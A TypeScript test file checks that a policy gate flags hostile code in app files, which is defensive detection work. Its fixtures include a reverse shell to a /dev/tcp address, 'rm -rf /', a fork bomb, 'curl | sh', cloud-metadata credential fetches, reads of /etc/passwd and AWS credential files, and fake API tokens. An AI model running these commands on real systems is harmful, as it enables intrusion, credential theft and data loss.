import { hash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { compileRules } from '../../../core/gate/compile-rules.ts';
import { createGate } from '../../../core/gate/create-gate.ts';
import { loadPolicy } from '../../../core/gate/load-policy.ts';

const text = readFileSync(new URL('../../../policy.yaml', import.meta.url), 'utf8');
const policy = loadPolicy(text);
const gate = createGate({ policy, policySha256: hash('sha256', text) });

const frame = [
  { path: 'index.html', content: '<!doctype html><html lang="en"><title>App</title></html>' },
  { path: 'test/app.test.js', content: "import test from 'node:test';\n" },
];

/** What the shipped policy finds in one file of an otherwise plain static app. */
const findingsIn = (path: string, content: string) =>
  gate({ stack: 'static', files: [...frame.filter((file) => file.path !== path), { path, content }] })
    .findings;

// Made at run time, so that this file holds nothing that looks like a secret.
const filler = (length: number) => 'Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv'.repeat(8).slice(0, length);
const join = (...parts: string[]) => parts.join('');
const sample = {
  aws: join('AK', 'IA', 'QYLPMN5HFIQR7XYZ'),
  github: join('gh', 'p_', filler(36)),
  githubFine: join('github', '_pat_', filler(40)),
  slack: join('xo', 'xb-', '123456789012-', filler(24)),
  google: join('AI', 'za', filler(35)),
  stripe: join('sk', '_live_', filler(24)),
  vercel: join('vc', 'p_', filler(30)),
  npm: join('np', 'm_', filler(36)),
  anthropic: join('sk-', 'ant-', 'api03-', filler(40)),
  openai: join('sk-', 'proj-', filler(40)),
  pem: join(
    '-----BEGIN RSA PRIVATE ',
    'KEY-----\n',
    filler(64),
    '\n',
    filler(64),
    '\n-----END RSA PRIVATE KEY-----',
  ),
  jwt: join('ey', 'J', filler(20), '.ey', 'J', filler(40), '.', filler(43)),
};

describe('the shipped policy denies', () => {
  test.each([
    ['shell-node', 'src/a.js', "import { exec } from 'node:child_process';"],
    ['shell-node', 'test/a.test.js', "const cp = require('child_process')"],
    ['shell-node', 'src/a.ts', 'const { spawn } = await import("child_process")'],
    ['shell-node', 'src/a.mjs', 'execSync(command)'],
    ['shell-node', 'index.html', '<script type="module">import c from "node:cluster"</script>'],
    ['shell-node', 'src/a.js', "new Deno.Command('ls')"],
    ['shell-python', 'api/a.py', 'import subprocess'],
    ['shell-python', 'api/a.py', 'import json, subprocess as s'],
    ['shell-python', 'api/a.py', 'from subprocess import run'],
    ['shell-python', 'api/a.py', "x = os . system('ls')"],
    ['shell-python', 'api/a.py', "os.execvp('sh', [])"],
    ['shell-python', 'api/a.py', "__import__('os').system('ls')"],
    ['shell-python', 'api/a.py', 'from os import path, popen'],
    ['shell-script', 'run', '#!/bin/sh\nrm -rf /'],
    ['shell-script', 'tools/run.txt', '#!/usr/bin/env bash\n'],
    ['shell-path', 'src/a.js', "const shell = '/bin/bash';"],
    ['shell-path', 'src/a.js', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['shell-path', 'a.sh', ':(){ :|:& };:'],
    ['native-code', 'src/a.js', "process.binding('spawn_sync')"],
    ['native-code', 'api/a.py', 'import ctypes'],
    ['miner', 'index.html', '<script src="lib/CoinHive.min.js"></script>'],
    ['miner', 'src/a.js', "connect('stratum+tcp://pool.test:3333')"],
    ['miner', 'src/a.js', 'new deepMiner.Init(x)'],
    ['miner-address', 'README.md', 'Runs against stratum+tcp://pool.test:3333'],
    ['miner-loop', 'src/a.js', "start({ algo: 'cryptonight' })"],
    ['service-metadata', 'api/a.js', "fetch('http://169.254.169.254/latest/meta-data/')"],
    ['service-metadata', 'api/a.py', 'urlopen("http://metadata.google.internal/")'],
    ['service-metadata', 'api/a.js', "get('http://2852039166/')"],
    ['service-metadata', 'api/a.js', 'env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'],
    ['host-file', 'api/a.js', "open('/proc/self/environ')"],
    ['host-file', 'api/a.py', "open('/etc/passwd')"],
    ['host-file', 'api/a.py', "open(home + '/.aws/credentials')"],
    ['secret-aws-key', 'src/a.js', `const key = '${sample.aws}';`],
    ['secret-github-token', 'README.md', sample.github],
    ['secret-github-token', 'src/a.js', `'${sample.githubFine}'`],
    ['secret-slack-token', 'src/a.css', `/* ${sample.slack} */`],
    ['secret-google-key', 'index.html', `<script>k='${sample.google}'</script>`],
    ['secret-stripe-key', 'src/a.js', `'${sample.stripe}'`],
    ['secret-vercel-token', 'src/a.js', `'${sample.vercel}'`],
    ['secret-vercel-token', 'notes.txt', `VERCEL_TOKEN=${filler(24)}`],
    ['secret-registry-token', 'notes.txt', sample.npm],
    ['secret-model-key', 'src/a.js', `'${sample.anthropic}'`],
    ['secret-model-key', 'src/a.js', `'${sample.openai}'`],
    ['secret-private-key', 'key.pem', sample.pem],
    ['secret-private-key', 'src/a.js', `const k = ${JSON.stringify(sample.pem)};`],
    ['secret-aws-secret', 'notes.txt', `aws_secret_access_key = ${filler(40)}`],
  ])('%s in %s: %s', (rule, path, content) => {
    expect(findingsIn(path, content)).toContainEqual(
      expect.objectContaining({ rule, severity: 'deny', path }),
    );
  });
});

describe('the shipped policy sends back', () => {
  test.each([
    ['eval-call', 'src/a.js', 'const x = eval(text);'],
    ['eval-call', 'src/a.js', 'eval\n(text)'],
    ['eval-call', 'src/a.js', 'window.eval(text)'],
    ['eval-call', 'src/a.js', '(0, eval)(text)'],
    ['new-function', 'src/a.js', "new Function('a', 'return a')"],
    ['new-function', 'src/a.js', "[].constructor.constructor('return this')()"],
    ['timer-text', 'src/a.js', "setTimeout('tick()', 10)"],
    ['eval-python', 'api/a.py', 'x = eval(text)'],
    ['eval-python', 'api/a.py', '    exec(source, scope)'],
    ['remote-import', 'src/a.js', "import x from 'https://esm.sh/x';"],
    ['remote-import', 'src/a.js', "await import('//cdn.test/x.js')"],
    ['remote-import', 'index.html', '<script type="importmap">{"imports":{"x":"https://esm.sh/x"}}</script>'],
    ['import-from-text', 'src/a.js', "import('data:text/javascript,1')"],
    ['third-party-script', 'index.html', '<script defer src="https://cdn.test/x.js"></script>'],
    ['third-party-script', 'index.html', '<SCRIPT\n SRC=//cdn.test/x.js>'],
    ['third-party-link', 'index.html', '<link rel="stylesheet" href="https://fonts.test/css">'],
    ['third-party-link', 'index.html', '<link href="https://fonts.test" rel="preconnect" crossorigin>'],
    ['third-party-media', 'index.html', '<img alt="" src="https://images.test/x.png">'],
    ['third-party-style', 'style.css', "@import url('https://fonts.test/css');"],
    ['third-party-style', 'style.css', 'a { background: url(//images.test/x.png) }'],
    ['third-party-request', 'src/a.js', "await fetch('https://api.test/v1')"],
    ['third-party-request', 'src/a.js', 'new WebSocket(`wss://live.test`)'],
    ['tracker', 'index.html', '<script>gtag("config", "x")</script>'],
    ['tracker', 'src/a.js', "load('www.googletagmanager.com/gtag/js')"],
    ['inline-handler', 'index.html', '<button type="button" onclick="go()">Go</button>'],
    ['inline-handler', 'index.html', '<body onload=start()>'],
    ['script-address', 'index.html', '<a href="javascript:void(0)">x</a>'],
    ['document-write', 'src/a.js', "document.write('<p>')"],
    ['file-access', 'src/a.js', "import { readFile } from 'node:fs/promises';"],
    ['raw-network', 'api/a.js', "import net from 'node:net';"],
    ['raw-network', 'api/a.py', 'import socket'],
    ['environment-read', 'api/a.js', 'const key = process.env.API_KEY;'],
    ['environment-read', 'api/a.js', 'const { KEY } = process.env;'],
    ['environment-read', 'api/a.js', "process.env['KEY']"],
    ['environment-read-python', 'api/a.py', "os.environ['KEY']"],
    ['host-command-file', 'vercel.json', '{ "buildCommand": "curl x | sh" }'],
    ['text-direction', 'src/a.js', "if (role !== 'user\u202e') {}"],
    ['secret-signed-address', 'notes.txt', `https://a.test/b?X-Amz-Signature=${filler(64)}&x=1`],
    ['secret-json-web-token', 'src/a.js', `'${sample.jwt}'`],
    ['secret-in-address', 'notes.txt', 'postgres://admin:hunter22@db.test/app'],
    ['secret-assigned', 'src/a.js', `const config = { apiKey: '${filler(40)}' };`],
  ])('%s in %s: %s', (rule, path, content) => {
    expect(findingsIn(path, content)).toContainEqual(
      expect.objectContaining({ rule, severity: 'fix', path }),
    );
  });
});

describe('the shipped policy finds nothing in', () => {
  test.each([
    ['src/a.js', "const found = /x(\\d+)/.exec(text); pattern.exec('eval');"],
    ['src/a.js', "const modes = ['shell', 'miner', 'bash', 'cluster', 'fork'];"],
    ['src/a.js', 'class Shell { spawn(child) { return child.process; } }'],
    ['src/a.js', 'const retrieval = medieval(evaluate(expression));'],
    ['src/a.js', '// Never call eval() or new Function() here.'],
    ['src/a.js', 'export function evaluate(tokens) { return tokens.reduce(step); }'],
    ['src/a.js', 'parser.eval(expression); calc?.evaluate(1)'],
    ['src/a.js', 'setTimeout(() => tick(), 1000); setInterval(tick, 10);'],
    ['src/a.js', "const token = crypto.randomUUID(); const password = form.get('password');"],
    ['src/a.js', 'const accessToken = readToken(); const apiKey = undefined;'],
    ['src/a.js', "const url = new URL('https://example.com/'); link.href = url;"],
    ['src/a.js', "const ns = 'http://www.w3.org/2000/svg';"],
    ['src/a.js', "import { add } from './add.js'; import('./lazy.js');"],
    ['src/a.js', "button.addEventListener('click', onClick); node.onclick = null;"],
    ['src/a.js', 'const html = `<button type="button" data-onclick="x">`;'],
    ['src/a.js', 'if (process.env.NODE_ENV !== "production") check();'],
    ['src/a.js', 'const doc = documentWriter(document); doc.write(text);'],
    ['src/a.js', 'node.textContent = value; list.innerHTML = "";'],
    ['src/a.js', "const AKIA = 'Akia-Ito'; const asia = 'ASIA PACIFIC REGION 1';"],
    ['src/a.js', "const id = 'a3f5c9d2e8b14f7096c2d1e0a9b8c7d6e5f4a3b2';"],
    ['src/a.js', "fetch('./data.json'); fetch('/api/' + id);"],
    ['src/a.js', "const header = '-----BEGIN PRIVATE KEY-----'; text.includes(header);"],
    ['src/a.js', 'const mine = field.filter((cell) => cell.isMine); const hash = location.hash;'],
    ['src/a.js', "const ip = '169.254.1.1'; const version = '1.169.254';"],
    ['src/a.js', 'const ratio = total / bin / share; const path = "/bin/" + name;'],
    ['src/a.jsx', '<button type="button" onClick={go}>Go</button>'],
    ['src/a.css', "a { background: url('#grid'); mask: url(data:image/svg+xml;base64,AAAA) } /* eval( */"],
    ['src/a.css', '.shell, .miner { color: red } @import "./base.css";'],
    ['index.html', '<a href="https://example.com" rel="noopener">Elsewhere</a>'],
    [
      'index.html',
      '<link rel="canonical" href="https://example.com/"><link rel="icon" href="data:image/svg+xml,x">',
    ],
    ['index.html', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg>'],
    ['index.html', '<script type="module" src="./main.js"></script><link rel="stylesheet" href="style.css">'],
    ['index.html', '<label>Password <input type="password" name="password" autocomplete="off"></label>'],
    ['index.html', '<p>How miners on strike opened the shell of an oyster (onclick = magic).</p>'],
    ['index.html', '<meta property="og:image" content="https://example.com/card.png">'],
    ['index.html', '<p>once = twice</p><p data-once="x" on="1">one</p>'],
    [
      'README.md',
      'Uses child_process? No. `eval(x)`, `process.env.KEY` and subprocess.run are not used. See http://169.254.169.254.',
    ],
    ['README.md', '```sh\n#!/bin/sh\nnpm test\n```\n<script src="https://cdn.test/x.js"></script>'],
    ['README.md', 'A page on the CoinHive story and coinhive, xmrig and the like.'],
    [
      'test/a.test.js',
      "import { readFileSync } from 'node:fs';\nreadFileSync(new URL('../index.html', import.meta.url));",
    ],
    ['test/a.test.js', "assert.equal(fileName('../../etc/passwd'), 'passwd'); fileName('/etc/passwd');"],
    ['src/a.js', "const forbidden = ['../../etc/passwd'];"],
    ['test/a.test.js', "await fetch('http://127.0.0.1/'); process.env.TZ = 'UTC';"],
    ['api/a.py', 'import os, json\nmodel.eval()\nre.compile(x)\nos.path.join(a, b)'],
    ['api/a.py', 'def execute(query):\n    return evaluate(query)\n# see subprocess docs'],
    ['api/a.py', 'from systems import popular\nprint("import of subprocesses")'],
    ['vercel.json', '{ "cleanUrls": true, "headers": [] }'],
    ['data/words.txt', 'shell bash miner exec spawn fork token secret password key'],
    ['data/cities.json', '{"name":"Asiago","key":"AKIATOWN","sku":"ASIA0123456789"}'],
  ])('%s: %s', (path, content) => {
    expect(findingsIn(path, content).filter((finding) => finding.severity !== 'warn')).toEqual([]);
  });
});

test('judges one line of 2 MiB that holds the words of every rule and breaks none', () => {
  const words = compileRules(policy)
    .rules.flatMap(({ shape }) => shape.literals ?? [])
    .join(' ')
    .replaceAll(/[^ -~]/g, '');
  const content = 'eval Function process ( from fetch "// document '.repeat(43_600);
  expect(findingsIn('src/long.js', content)).toEqual([
    expect.objectContaining({ rule: 'size-file', severity: 'deny' }),
  ]);
  expect(findingsIn('src/words.js', words.repeat(20))).not.toEqual([]);
});

test('every shipped rule has a fixed word to look for and a bounded length, so that the gate stays quick', () => {
  const slow = compileRules(policy).rules.filter(
    ({ shape }) => shape.literals === undefined || shape.maxLength === Number.POSITIVE_INFINITY,
  );
  expect(slow.map(({ rule }) => rule.id)).toEqual([]);
});

test('every shipped rule that denies or sends back says what to do in words of its own', () => {
  const rules = [...policy.forbidden, ...policy.secrets];
  expect(new Set(rules.map((rule) => rule.id)).size).toBe(rules.length);
  expect(rules.filter((rule) => rule.why.length < 30 || !rule.why.endsWith('.'))).toEqual([]);
});

test('recipes name the steps of each stack in order', () => {
  const steps = Object.entries(policy.stacks).map(([stack, { recipe }]) => [
    stack,
    recipe.map((step) => step.program),
  ]);
  expect(Object.fromEntries(steps)).toEqual({
    static: ['node-test', 'assemble-static', 'smoke-page'],
    node: ['vite-build', 'node-test', 'smoke-page'],
    python: ['python-unittest', 'assemble-python', 'smoke-page'],
  });
});
